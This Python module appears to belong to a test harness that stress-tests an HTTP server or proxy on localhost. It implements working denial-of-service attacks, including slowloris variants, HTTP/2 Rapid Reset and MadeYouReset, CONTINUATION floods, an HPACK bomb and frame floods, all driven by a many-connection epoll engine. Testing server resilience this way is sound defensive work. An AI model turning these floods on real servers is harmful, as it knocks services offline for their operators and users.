"""What the attackers do: each attack is a small program for many connections of one process."""

import contextlib
import itertools
import resource
import select
import socket
import sys
import time

from . import h2

# Not the good client's address.
SOURCE = "127.0.0.2"
# Connections opened in a second: at the start, and for those that were closed.
CONNECTS, RECONNECTS = 4000, 100
# Written at once by whoever floods.
CHUNK = 32 * 1024

SMALL, MIDDLE, LARGE, HUNG = b"/b/128", b"/b/65536", b"/b/1048576", b"/d/30000/128"


class Attack:
    """Connections that each send `opening` and then what `more` gives, every `pace` seconds or as
    fast as the other side takes it. It reads what comes and forgets it, unless it is not to read."""

    connections, pace, reads = 50, 0.0, True
    # Whether the upstream takes more at once than by default, so that memory and not the bulkhead is
    # the limit.
    crowds = False

    def __init__(self, number):
        # Streams that are open, for those attacks that have any.
        self.streams = itertools.count(1, 2)
        self.number = number

    def opening(self):
        """What is sent first."""
        return b""

    def more(self):
        """What is sent then; `None` for nothing, ever."""
        return None


class Http2(Attack):
    """Begins with what a client of HTTP/2 does."""

    connections = 20

    def opening(self):
        return h2.PREFACE + h2.settings() + self.first()

    def first(self):
        """What follows."""
        return b""

    def per_stream(self, each):
        """What `each` makes of new streams, up to a chunk."""
        pieces, size = [], 0
        while size < CHUNK:
            piece = each(next(self.streams) & h2.LARGE)
            pieces.append(piece)
            size += len(piece)
        return b"".join(pieces)


def repeats(piece, opens=b""):
    """An attack that repeats one frame for ever."""
    chunk = piece * (CHUNK // len(piece))

    class Repeats(Http2):
        """See above."""

        def first(self):
            return opens

        def more(self):
            return chunk

    return Repeats


class SlowHeaders(Attack):
    """A head that drips and never ends."""

    connections, pace = 2000, 1.0

    def opening(self):
        return b"GET /b/128 HTTP/1.1\r\nhost: a\r\n"

    def more(self):
        return b"x: y\r\n"


class SlowBody(Attack):
    """A body that drips."""

    connections, pace, crowds = 500, 1.0, True

    def opening(self):
        return b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n"

    def more(self):
        return b"x"


class SlowRead(Attack):
    """Asks for a megabyte and reads none of it."""

    connections, reads = 1000, False

    def opening(self):
        return b"GET " + LARGE + b" HTTP/1.1\r\nhost: a\r\n\r\n"


class SlowReadCrowd(SlowRead):
    """The same, and every one is served."""

    crowds = True


class Idle(Attack):
    """Connects and says nothing."""

    connections = 10_000


class HalfRequests(Attack):
    """Sends half a request."""

    connections = 5000

    def opening(self):
        return b"GET /b/128 HTTP/1.1\r\nhost: a\r\nx-padding: " + b"y" * 400


class Fields(Attack):
    """Heads of more and longer fields than are taken."""

    def opening(self):
        if self.number % 2:
            many = b"".join(b"x-%d: y\r\n" % at for at in range(3000))
        else:
            many = b"x: " + b"y" * 100_000 + b"\r\n"
        return b"GET /b/128 HTTP/1.1\r\nhost: a\r\n" + many + b"\r\n"


class RapidReset(Http2):
    """Opens streams and cancels them at once (CVE-2023-44487)."""

    def more(self):
        reset = (8).to_bytes(4)
        return self.per_stream(
            lambda stream: h2.request(stream, SMALL) + h2.frame(h2.RST_STREAM, 0, stream, reset)
        )


class MadeYouReset(Http2):
    """Opens streams and has us cancel them (CVE-2025-8671)."""

    def more(self):
        return self.per_stream(lambda stream: h2.request(stream, SMALL) + h2.window(stream, h2.LARGE))


class Continuation(Http2):
    """A header block without end (CERT VU#421644)."""

    def first(self):
        return h2.frame(h2.HEADERS, 0, 1, h2.fields(SMALL))

    def more(self):
        piece = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"y"))
        return piece * (CHUNK // len(piece))


class ContinuationDrip(Http2):
    """A header block that drips."""

    connections, pace = 1000, 1.0

    def first(self):
        return h2.frame(h2.HEADERS, 0, 1, h2.fields(SMALL))

    def more(self):
        return h2.frame(h2.CONTINUATION, 0, 1, b"")


class Bomb(Http2):
    """A field of 4 KB into the table, and then thousands of references to it."""

    def first(self):
        entry = b"\x40\x01x\x7f\x81\x1e" + b"y" * 4000
        return h2.request(next(self.streams), SMALL, more=entry)

    def more(self):
        block = h2.fields(SMALL) + b"\xbe" * 16_000
        flags = h2.END_HEADERS | h2.END_STREAM
        return h2.frame(h2.HEADERS, flags, next(self.streams) & h2.LARGE, block)


class HugeFields(Http2):
    """Heads of many fields and as long as they may be."""

    def more(self):
        many = b"".join(h2.literal(b"x-%d" % at, b"y" * 10) for at in range(850))
        return h2.request(next(self.streams) & h2.LARGE, SMALL, more=many)


class TinyWindows(Http2):
    """Has bodies sent octet by octet."""

    connections, pace, crowds = 10, 0.01, True

    def opening(self):
        asks = (h2.request(next(self.streams), MIDDLE) for _ in range(50))
        return h2.PREFACE + h2.settings(s4=1) + b"".join(asks)

    def more(self):
        return b"".join(h2.window(stream, 1) for stream in range(1, 101, 2))


class SlowPost(Http2):
    """Bodies that drip, on every stream that may be had."""

    connections, pace, crowds = 10, 1.0, True

    def first(self):
        opens = (h2.request(next(self.streams), b"/echo", b"POST", ends=False) for _ in range(100))
        return b"".join(opens)

    def more(self):
        return b"".join(h2.frame(h2.DATA, 0, stream, b"x") for stream in range(1, 201, 2))


class SlowReadStreams(Http2):
    """Asks for megabytes on every stream that may be had, and reads none of them."""

    connections, reads, crowds = 3, False, True

    def opening(self):
        asks = (h2.request(next(self.streams), LARGE) for _ in range(100))
        windows = h2.window(0, h2.LARGE - h2.INITIAL_WINDOW)
        return h2.PREFACE + h2.settings(s4=h2.LARGE) + windows + b"".join(asks)


POST_HUNG = h2.request(1, HUNG, b"POST", ends=False)

ATTACKS = {
    "slow-headers": SlowHeaders,
    "slow-body": SlowBody,
    "slow-read": SlowRead,
    "slow-read-crowd": SlowReadCrowd,
    "idle": Idle,
    "half-requests": HalfRequests,
    "fields": Fields,
    "h2-rapid-reset": RapidReset,
    "h2-made-you-reset": MadeYouReset,
    "h2-continuation": Continuation,
    "h2-continuation-drip": ContinuationDrip,
    "h2-settings": repeats(h2.settings()),
    "h2-ping": repeats(h2.frame(h2.PING, payload=b"12345678")),
    "h2-priority": repeats(h2.frame(h2.PRIORITY, 0, 3, bytes(4) + b"\x10")),
    "h2-window-update": repeats(h2.window(0, 1)),
    "h2-unknown": repeats(h2.frame(h2.UNKNOWN, payload=b"what")),
    "h2-empty-data": repeats(h2.frame(h2.DATA, 0, 1), POST_HUNG),
    "h2-tiny-windows": TinyWindows,
    "h2-bomb": Bomb,
    "h2-fields": HugeFields,
    "h2-slow-post": SlowPost,
    "h2-slow-read": SlowReadStreams,
}


class Line:
    """One connection of an attacker."""

    def __init__(self, attack, port, number):
        self.attack = attack(number)
        self.output = self.attack.opening()
        self.due = time.monotonic() + self.attack.pace
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.bind((SOURCE, 0))
        with contextlib.suppress(BlockingIOError):
            self.socket.connect(("127.0.0.1", port))

    def write(self, now):
        """Sends what is due; says whether there is more to send at once."""
        if not self.output and now >= self.due:
            self.due += max(self.attack.pace, 0.0)
            more = self.attack.more()
            if more is None:
                self.due = float("inf")
                return False
            self.output = more
        if self.output:
            with contextlib.suppress(BlockingIOError):
                self.output = self.output[self.socket.send(self.output) :]
        return bool(self.output) or (self.attack.pace == 0.0 and self.due < float("inf"))


class Crowd:
    """All connections of an attack."""

    def __init__(self, attack, port):
        self.attack, self.port = attack, port
        self.poller = select.epoll()
        self.lines = {}
        self.opened = self.lost = 0

    def run(self, seconds):
        """Attacks for so long."""
        begin = now = time.monotonic()
        paced = begin
        while now < begin + seconds:
            self._connect(now - begin)
            for number, events in self.poller.poll(0.01, 256):
                self._serve(number, events, now)
            now = time.monotonic()
            if self.attack.pace and now >= paced:
                paced = now + min(0.05, self.attack.pace)
                for number, line in list(self.lines.items()):
                    if not line.output and line.due <= now:
                        self._serve(number, select.EPOLLOUT, now)
        return {"opened": self.opened, "lost": self.lost, "open": len(self.lines)}

    def _connect(self, since):
        wanted = min(self.attack.connections, since * CONNECTS) + since * RECONNECTS
        for _ in range(200):
            if len(self.lines) >= self.attack.connections or self.opened > wanted:
                return
            try:
                line = Line(self.attack, self.port, self.opened)
            except OSError:
                return
            self.opened += 1
            self.lines[line.socket.fileno()] = line
            self.poller.register(line.socket, self._interest(writes=True))

    def _interest(self, writes):
        reads = select.EPOLLIN if self.attack.reads else select.EPOLLHUP
        return reads | (select.EPOLLOUT if writes else 0)

    def _serve(self, number, events, now):
        line = self.lines.get(number)
        if line is None:
            return
        try:
            if events & (select.EPOLLERR | select.EPOLLHUP):
                raise ConnectionResetError
            if events & select.EPOLLIN and not line.socket.recv(1 << 16):
                raise ConnectionResetError
            if events & select.EPOLLOUT:
                writes = line.write(now)
                self.poller.modify(number, self._interest(writes))
        except BlockingIOError:
            pass
        except OSError:
            self.lost += 1
            del self.lines[number]
            line.socket.close()


def most_files():
    """Raises the limit of open files as far as it goes."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def main():
    """Runs one attack: its name, a port and for how long."""
    name, port, seconds = sys.argv[1:4]
    most_files()
    print(Crowd(ATTACKS[name], int(port)).run(float(seconds)), flush=True)


if __name__ == "__main__":
    main()
